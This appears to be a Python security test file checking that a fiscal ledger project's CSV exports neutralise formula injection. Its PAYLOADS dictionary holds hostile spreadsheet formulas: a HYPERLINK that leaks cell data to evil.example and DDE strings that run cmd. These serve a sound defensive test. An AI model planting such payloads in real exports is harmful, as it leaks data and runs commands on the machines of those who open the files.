"""CSV formula injection: names that a spreadsheet would run as formulas.

Attack: a budget unit or a clerk's correction puts `=HYPERLINK(…)`, `=cmd|' /C calc'!A0`,
`@SUM(…)`, `+…` or `-2+3…` into a subject, unit, assessment or monitoring-round name; the
text reaches every CSV the project writes (the .csv download, the CSV inside the fiscal
data package, disclosure packages, `jixiao export`), and Excel runs it on open.

Defence: every CSV cell goes through one function (csv_export.csv_document; the rule is
ledger.csv_cells), which prefixes text starting with = + - @ tab or CR (also behind leading
blanks) with an apostrophe (OWASP's rule). Numbers stay numbers. The ledger keeps the
original text, the xlsx holds it as a typed text cell, and reading our CSV back
(import-table) gives the original again.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import httpx2 as httpx
from openpyxl import load_workbook

from jixiao.cli import main as jixiao
from ledger.annex import Provenance
from ledger.csv_cells import restore
from ledger.importing import read_annex_file
from projections.exports.csv_export import csv_bytes
from projections.exports.fdp_export import fdp_csv_bytes
from projections.exports.report import Report
from tests.e2e.conftest import bearer, issue_token
from tests.security.conftest import Served, assert_public_annex_intact
from tests.security.ledger_edits import (
    mutate,
    rename_subject,
    rename_unit,
    rewrite_assessment,
)

KEY = "XS-2022-KP-01"
OVERALL = "XS-2022-DO-01"
PAYLOADS = {
    "key_name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "key_assessment": "=cmd|' /C calc'!A0",
    "unit_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "overall_name": "+1+cmd|' /C calc'!A0",
    "overall_assessment": "-2+3+cmd|' /C calc'!A0",
    "round_name": "=2+5+cmd|' /C notepad'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def dangerous(cell: str) -> bool:
    """True when a spreadsheet could read the cell as a formula (OWASP's characters, also
    behind leading blanks); a plain number such as -5.00 is data, not a formula."""
    stripped = cell.lstrip(" \u3000\n")
    return stripped.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def plant(served: Served) -> None:
    """Put every payload where an export prints it: names, unit, assessment, round name."""
    unit = rename_subject(served, KEY, PAYLOADS["key_name"])
    rewrite_assessment(served, KEY, PAYLOADS["key_assessment"])
    rename_unit(served, unit, PAYLOADS["unit_name"])
    rename_subject(served, OVERALL, PAYLOADS["overall_name"])
    rewrite_assessment(served, OVERALL, PAYLOADS["overall_assessment"])
    # A budget unit's own monitoring round: its name is printed in the coverage table.
    unit_token = bearer(issue_token(served.db, "budget_unit", unit=unit))
    mutate(served, "recordMonitoring", {
        "subjectCode": KEY, "roundName": PAYLOADS["round_name"],
        "windowStart": "2022-01-01", "windowEnd": "2022-08-31",
        "budgetAmount": "548.95", "executedAmount": "100.00"}, unit_token)


def every_csv(served: Served, tmp_path: Path) -> dict[str, bytes]:
    """Every CSV the project writes for 2022: downloads, packages, CLI exports, disclosures."""
    found: dict[str, bytes] = {}
    for table in ("key-projects", "department-overall", "coverage"):
        response = httpx.get(f"{served.url}/exports/2022/{table}.csv", headers=served.bureau,
                             timeout=60)
        assert response.status_code == 200, response.text
        found[f"GET {table}.csv"] = response.content
    for table in ("key-projects", "department-overall"):
        response = httpx.get(f"{served.url}/exports/2022/{table}.fdp", headers=served.bureau,
                             timeout=60)
        assert response.status_code == 200, response.text
        archive = zipfile.ZipFile(io.BytesIO(response.content))
        for name in archive.namelist():
            if name.endswith(".csv"):
                found[f"GET {table}.fdp:{name}"] = archive.read(name)
    database = ["--database", served.db.url]
    for table in ("key-projects", "coverage"):
        out = tmp_path / f"cli-{table}.csv"
        assert jixiao([*database, "export", "--year", "2022", "--table", table,
                       "--format", "csv", "--out", str(out)]) == 0
        found[f"jixiao export {table}"] = out.read_bytes()
    out = tmp_path / "cli-fdp"
    assert jixiao([*database, "export", "--year", "2022", "--table", "department-overall",
                   "--format", "fdp", "--out", str(out)]) == 0
    for path in out.rglob("*.csv"):
        found[f"jixiao export fdp:{path.name}"] = path.read_bytes()
    for audience in ("peoples-congress", "standing-committee", "public"):
        package = tmp_path / audience
        assert jixiao([*database, "disclose", "--year", "2022", "--audience", audience,
                       "--out", str(package)]) == 0
        for path in package.rglob("*.csv"):
            found[f"disclose {audience}:{path.name}"] = path.read_bytes()
    return found


def test_no_csv_the_project_writes_starts_a_cell_with_a_formula(served: Served,
                                                                 tmp_path: Path) -> None:
    plant(served)
    written = every_csv(served, tmp_path)
    assert len(written) >= 12, sorted(written)
    every_cell = []
    for source, data in written.items():
        for number, row in enumerate(cells(data), start=1):
            for cell in row:
                assert not dangerous(cell), f"{source}, line {number}: {cell!r}"
                every_cell.append(cell)
    # Each payload was written, neutralised, with its original text whole after the '.
    for field, payload in PAYLOADS.items():
        assert any(cell.startswith("'" + payload) for cell in every_cell), field
    key = cells(written["GET key-projects.csv"])
    row = next(r for r in key if r[0] == "1")
    assert row[1] == "'" + PAYLOADS["key_name"]
    assert row[2] == "'" + PAYLOADS["unit_name"]
    assert row[4] == "'" + PAYLOADS["key_assessment"]
    assert key[-1][0] == "合计" and re.fullmatch(r"\d+\.\d\d", key[-1][3])  # numbers stay numbers
    # The original text is kept: in the ledger, in the xlsx, and in our CSV read back.
    body = served.graphql('{ ledger { subject(code: "XS-2022-KP-01") { name unitName } } }',
                          None, served.bureau).json()
    assert body["data"]["ledger"]["subject"] == {"name": PAYLOADS["key_name"],
                                                 "unitName": PAYLOADS["unit_name"]}
    xlsx = httpx.get(f"{served.url}/exports/2022/key-projects.xlsx", headers=served.bureau,
                     timeout=60)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    first = next(row for row in sheet.iter_rows(min_row=3) if row[0].value == 1)
    assert [c.value for c in first[1:3]] == [PAYLOADS["key_name"], PAYLOADS["unit_name"]]
    assert all(c.data_type == "s" for c in first[1:3])  # typed text, never a formula
    assert first[4].value == PAYLOADS["key_assessment"] and first[4].data_type == "s"

    download = httpx.get(f"{served.url}/exports/2022/key-projects.csv", headers=served.bureau,
                         timeout=60)
    path = tmp_path / "key-projects.csv"
    path.write_bytes(download.content)
    read_back = next(r for r in read_annex_file(path).rows if r.seq == 1)
    assert (read_back.subject_name, read_back.unit_name, read_back.assessment) == (
        PAYLOADS["key_name"], PAYLOADS["unit_name"], PAYLOADS["key_assessment"])
    assert_public_annex_intact(served.url)



def test_every_csv_writer_disarms_tab_cr_blanks_and_apostrophes_and_keeps_numbers() -> None:
    """What the ledger's own input rules strip (a leading tab, CR or blank) can still come
    from elsewhere (an imported assessment); the writers do not rely on that."""
    texts = ["\t=1+1", "\r=1+1", " \u3000@SUM(A1)", "\n-2+3", "'=already quoted", "-2+3",
             "+86 561 1234567", "普通名称", "'plain apostrophe"]
    rows = tuple((index, text, Decimal(-index)) for index, text in enumerate(texts, start=1))
    report = Report(title="t", headers=("序号", "名称", "金额(万元)"), rows=rows,
                    provenance=Provenance(position=1), numeric_columns=frozenset({2}),
                    name="t", fiscal_year=2022)
    for data in (csv_bytes(report), fdp_csv_bytes(report)):
        table = cells(data)
        for row in table:
            assert not any(dangerous(cell) for cell in row), row
        names = [row[1 if data.startswith(b"\xef\xbb\xbf") else 2] for row in table[1:]]
        assert [restore(name) for name in names] == texts
        amounts = [row[-1] for row in table[1:]]
        assert amounts == [f"-{index}.00" for index in range(1, len(texts) + 1)]  # numbers stay
